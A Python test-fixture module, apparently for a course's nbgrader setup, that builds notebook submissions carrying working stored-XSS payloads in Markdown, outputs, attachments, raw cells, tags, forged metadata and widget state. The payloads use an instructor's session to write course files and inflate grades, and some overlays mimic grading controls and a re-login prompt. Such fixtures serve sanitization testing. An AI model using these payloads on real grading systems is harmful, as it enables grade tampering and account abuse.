"""Submissions that carry script for the pages a person opens (feedback, formgrader), in every
place a notebook can hold it: Markdown answers, every output type, attachments, raw cells, cell
and output metadata, the notebook's widget state.

Each payload, wherever it runs, marks the page (an attribute data-pwned-<vector> on the top
document) and, with the logged-in instructor's cookies, does what an attacker would do there:
writes a file into the course through Jupyter's contents API, and gives every grade of the
submission full manual marks and 50 points of extra credit through formgrader's API. The
functions are correct, so the attacker is graded as an honest student would be.
"""

from __future__ import annotations

import base64
import html
import json

from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

PWNED_ATTRIBUTE = "data-pwned-"
PWNED_FILE = "pwned-"
# The vectors' names, one per payload below; a test finds each by its name.
MARKDOWN_VECTORS = ("img-onerror", "script-tag", "svg-onload", "javascript-link", "iframe-srcdoc",
                    "meta-refresh", "base-href", "css-url", "object-data", "form-action", "details-ontoggle",
                    "math-href")
OUTPUT_VECTORS = ("html-output-script", "html-output-onerror", "javascript-output", "svg-output", "markdown-output",
                  "latex-output", "isolated-html-output", "image-width-metadata", "image-filename-metadata",
                  "widget-view-output", "stream-text", "error-text")
CELL_VECTORS = ("attachment-svg", "attachment-html", "raw-cell-html", "cell-tags", "widget-state")
# Student content drawn over the page's controls (formgrader's score, extra-credit and comment
# boxes, the feedback's summary table) with allowlisted markup only.
OVERLAY_VECTORS = ("mathml-mpadded-mspace", "mathml-huge-glyph", "mathml-negative-lspace", "latex-colorbox-huge",
                   "html-padding-border", "html-output-overlay")
# An exception of the student's named like a limit the grader notes.
FORGED_LIMIT = "time-limit"
# A file handed in beside the notebooks, which formgrader serves from the autograded folder.
HANDED_IN_FILE = "evil.html"
# nbgrader refuses to grade a notebook with these (its metadata schema), so they reach a page only
# in a notebook written past nbgrader: the tests render them directly.
FORGED_VECTORS = ("forged-nbgrader-comment", "forged-grade-id", "forged-cell-id", "forged-output-type")


def payload(vector: str) -> str:
    """JavaScript that marks the page and attacks the course and the gradebook; no double quotes,
    so that it fits in an HTML attribute."""
    return (
        "(function(){var v='" + vector + "';"
        "try{(window.top||window).document.documentElement.setAttribute('" + PWNED_ATTRIBUTE + "'+v,'1');}catch(e){}"
        "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
        "var base=location.pathname.split('/formgrader/')[0];"
        "var h={'Content-Type':'application/json','X-XSRFToken':x,'X-CSRFToken':x};"
        "fetch(base+'/api/contents/" + PWNED_FILE + "'+v+'.txt',{method:'PUT',headers:h,credentials:'include',"
        "body:JSON.stringify({type:'file',format:'text',content:v})});"
        "var s=(typeof submission_id!=='undefined')?submission_id:'';"
        "fetch(base+'/formgrader/api/grades?submission_id='+s,{credentials:'include'})"
        ".then(function(r){return r.json();})"
        ".then(function(gs){gs.forEach(function(g){g.manual_score=g.max_score;g.extra_credit=50;"
        "fetch(base+'/formgrader/api/grade/'+g.id,{method:'PUT',headers:h,credentials:'include',"
        "body:JSON.stringify(g)});});});"
        "})();"
    )


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _svg(vector: str) -> str:
    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="{payload(vector)}">'
            f'<script>{payload(vector)}</script><rect width="40" height="40" fill="red"/></svg>')


def markdown_payloads() -> str:
    """A Markdown answer holding a payload of each MARKDOWN_VECTORS, between ordinary prose."""
    p = payload
    parts = {
        "img-onerror": f'<img src="x" onerror="{p("img-onerror")}">',
        "script-tag": f"<script>{p('script-tag')}</script>",
        "svg-onload": _svg("svg-onload"),
        "javascript-link": f'[click me](javascript:{p("javascript-link")}) '
                           f'<a href="javascript:{p("javascript-link")}">or me</a>',
        "iframe-srcdoc": f'<iframe srcdoc="<script>{html.escape(p("iframe-srcdoc"))}</script>"></iframe>',
        "meta-refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{p("meta-refresh")}">',
        "base-href": '<base href="javascript://base-href/">',
        "css-url": f'<div style="background-image: url(javascript:{p("css-url")})">styled</div>'
                   f'<style>body {{ background: url("javascript:{p("css-url")}"); }}</style>',
        "object-data": f'<object data="data:text/html;base64,{_b64("<script>" + p("object-data") + "</script>")}">'
                       "</object>",
        "form-action": f'<form action="javascript:{p("form-action")}"><button>submit</button></form>',
        "details-ontoggle": f'<details open ontoggle="{p("details-ontoggle")}"><summary>more</summary>x</details>',
        "math-href": '<math><mi href="javascript:' + p("math-href") + '">x</mi></math> and $\\href{javascript:'
                     + p("math-href").replace("{", "\\{").replace("}", "\\}") + '}{y}$',
    }
    assert set(parts) == set(MARKDOWN_VECTORS)
    prose = "The largest rate oscillates, the smallest learns slowly; $\\eta = 0.5$ converges fastest."
    return "\n\n".join([prose, *parts.values()])


def output_cells() -> list:
    """Code cells whose outputs, when the grader runs them, carry a payload of each OUTPUT_VECTORS."""
    p = payload
    tiny_png = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
    code = f'''
from IPython.display import HTML, Javascript, Latex, Markdown, SVG, display
display(HTML({"<script>" + p("html-output-script") + "</script>"!r}))
display(HTML({'<img src="x" onerror="' + p("html-output-onerror") + '">'!r}))
display(Javascript({p("javascript-output")!r}))
display(SVG({_svg("svg-output")!r}))
display(Markdown({'**bold** <img src="x" onerror="' + p("markdown-output") + '">'!r}))
display(Latex({"$x^2$ <img src=x onerror=" + json.dumps(p("latex-output")) + ">"!r}))
display({{"text/html": {"<script>" + p("isolated-html-output") + "</script>"!r}}},
        metadata={{"text/html": {{"isolated": True}}}}, raw=True)
display({{"image/png": {tiny_png!r}}},
        metadata={{"image/png": {{"width": {"1 onerror=" + json.dumps(p("image-width-metadata"))!r}}}}}, raw=True)
display({{"image/png": {tiny_png!r}}},
        metadata={{"filenames": {{"image/png": {"x.png' onerror='" + p("image-filename-metadata")!r}}}}}, raw=True)
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "</script><script>"
          + {p("widget-view-output")!r} + "</script>", "version_major": 2, "version_minor": 0}},
          "text/plain": "a widget"}}, raw=True)
'''
    printed = (f"print({'<script>' + p('stream-text') + '</script>'!r})\n"
               f"raise ValueError({'<img src=x onerror=' + json.dumps(p('error-text')) + '>'!r})\n")
    return [new_code_cell(code), new_code_cell(printed)]


def other_cells() -> list:
    """Cells that carry a payload of each CELL_VECTORS in their JSON: attachments, a raw cell and
    tags (the widget state goes in the notebook's metadata)."""
    p = payload
    attachments = {
        "evil.svg": {"image/svg+xml": _b64(_svg("attachment-svg"))},
        "evil.html": {"text/html": _b64("<script>" + p("attachment-html") + "</script>")},
    }
    attached = new_markdown_cell("An attached figure: ![figure](attachment:evil.svg) and ![page](attachment:evil.html)",
                                 attachments=attachments)
    raw = new_raw_cell(f"<script>{p('raw-cell-html')}</script><img src=x onerror=\"{p('raw-cell-html')}\">")
    # nbformat allows any tag without a comma: the mark alone, in an attribute it would break out of
    tagged = new_markdown_cell("Tagged.", metadata={"tags": [
        'x" onmouseover="document.documentElement.dataset.pwnedCellTags=1" autofocus onfocus="'
        'document.documentElement.dataset.pwnedCellTags=1" data-x="']})
    return [attached, raw, tagged]


def _overlay_html() -> dict[str, str]:
    giant = "&#x2588;" * 40
    return {
        "mathml-mpadded-mspace": '<math><mpadded width="0" height="0" depth="0"><mspace width="4000px" '
                                 'height="3000px" mathbackground="white"></mspace></mpadded></math>',
        "mathml-huge-glyph": f'<math><mstyle mathsize="4000px"><mi mathcolor="white">{giant}</mi></mstyle></math>',
        "mathml-negative-lspace": f'<math><mo lspace="-3000px" rspace="-3000px">{giant}</mo></math>',
        "latex-colorbox-huge": "$\\mathrlap{\\smash{\\colorbox{white}{\\Huge " + "W" * 60 + "}}}$",
        "html-padding-border": '<div style="padding: 2000px; border: 3000px solid white; margin: -3000px; '
                               'position: fixed; top: 0; left: 0; z-index: 99999; background-color: white">'
                               'Grades were saved. <a href="https://example.org/login">Sign in again</a></div>',
    }


def overlay_cells() -> list:
    """A Markdown cell and a code cell's HTML output that try to paint over the page's controls
    (OVERLAY_VECTORS)."""
    parts = _overlay_html()
    output = parts["mathml-mpadded-mspace"] + parts["html-padding-border"]
    return [new_markdown_cell("\n\n".join(parts.values())),
            new_code_cell(f"from IPython.display import HTML, display\ndisplay(HTML({output!r}))")]


def forged_limit_cell():
    """A code cell whose exception is named like the grader's time limit."""
    return new_code_cell(f"raise type({FORGED_LIMIT!r}, (Exception,), {{}})"
                         "('this cell ran longer than 120 s and was stopped')")


def forged_cells() -> list:
    """Cells whose JSON nbgrader or nbformat would refuse, one per FORGED_VECTORS."""
    p = payload
    comment = new_markdown_cell("My answer.", metadata={"nbgrader": {
        "grade": True, "solution": True, "locked": False, "schema_version": 3, "grade_id": "answer_by_hand",
        "points": 3, "score": 3, "comment": f'<img src=x onerror="{p("forged-nbgrader-comment")}">'}})
    grade_id = new_code_cell("1", metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": True, "schema_version": 3, "points": 1, "score": 1,
        "grade_id": f'x"><img src=x onerror="{p("forged-grade-id")}">'}})
    cell_id = new_markdown_cell("An odd id.")
    cell_id["id"] = f'x"><img src=x onerror="{p("forged-cell-id")}">'
    output_type = new_code_cell("2")
    output_type["outputs"] = [{"output_type": f"<img src=x onerror=\"{p('forged-output-type')}\">",
                               "data": {"text/html": f"<script>{p('forged-output-type')}</script>"}}]
    return [comment, grade_id, cell_id, output_type]


def widget_state() -> dict:
    """Notebook metadata whose widget state nbconvert would write into a script element."""
    return {"application/vnd.jupyter.widget-state+json": {
        "state": {"x": {"model_name": "</script><script>" + payload("widget-state") + "</script>"}},
        "version_major": 2, "version_minor": 0}}


ALL_VECTORS = (*MARKDOWN_VECTORS, *OUTPUT_VECTORS, *CELL_VECTORS)


def write_page_attacker(course, student: str) -> None:
    """A submission of student into course: correct functions (alice's answers), the Markdown
    payloads as the hand-graded answer, the other payloads, overlays and a forged limit appended
    to every notebook, and an HTML file with script beside them."""
    import nbformat

    from backprop_course.authoring.samples import answers_from_source, write_submission

    from .backprop import MANUAL_GRADE_ID

    answers = answers_from_source((course.sample_answers / "alice.py").read_text())
    answers[MANUAL_GRADE_ID] = markdown_payloads()
    written = write_submission(course.release, answers, course.submission(student))
    for path in [path for path in written if path.suffix == ".ipynb"]:  # not its timestamp.txt
        notebook = nbformat.read(path, as_version=4)
        notebook.cells += [new_markdown_cell(markdown_payloads()), *output_cells(), *other_cells(),
                           *overlay_cells(), forged_limit_cell()]
        notebook.metadata["widgets"] = widget_state()
        nbformat.write(notebook, path)
    (course.submission(student) / HANDED_IN_FILE).write_text(
        f"<!doctype html><p>a page</p><script>{payload('handed-in-file')}</script>")


def outputs_cell() -> object:
    """A code cell carrying, as the kernel would have sent them, an output of each OUTPUT_VECTORS
    (for tests that render a notebook without running it)."""
    from nbformat.v4 import new_output

    p = payload
    tiny_png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
    shown = [
        ({"text/html": f"<script>{p('html-output-script')}</script>"}, {}),
        ({"text/html": f'<img src="x" onerror="{p("html-output-onerror")}">'}, {}),
        ({"application/javascript": p("javascript-output"), "text/plain": "<Javascript object>"}, {}),
        ({"image/svg+xml": _svg("svg-output")}, {}),
        ({"text/markdown": f'**bold** <img src="x" onerror="{p("markdown-output")}">'}, {}),
        ({"text/latex": f"$x^2$ <img src=x onerror=\"{p('latex-output')}\">"}, {}),
        ({"text/html": f"<script>{p('isolated-html-output')}</script>"}, {"text/html": {"isolated": True}}),
        ({"image/png": tiny_png}, {"image/png": {"width": f"1 onerror=\"{p('image-width-metadata')}\""}}),
        ({"image/png": tiny_png}, {"filenames": {"image/png": f"x.png\" onerror=\"{p('image-filename-metadata')}"}}),
        ({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{p('widget-view-output')}"
                                                                   "</script>", "version_major": 2}}, {}),
    ]
    cell = new_code_cell("show()")
    cell.outputs = [new_output("display_data", data=data, metadata=metadata) for data, metadata in shown]
    cell.outputs.append(new_output("stream", text=f"<script>{p('stream-text')}</script>"))
    cell.outputs.append(new_output("error", ename="ValueError", evalue=f"<img src=x onerror=\"{p('error-text')}\">",
                                   traceback=[f"<script>{p('error-text')}</script>"]))
    return cell
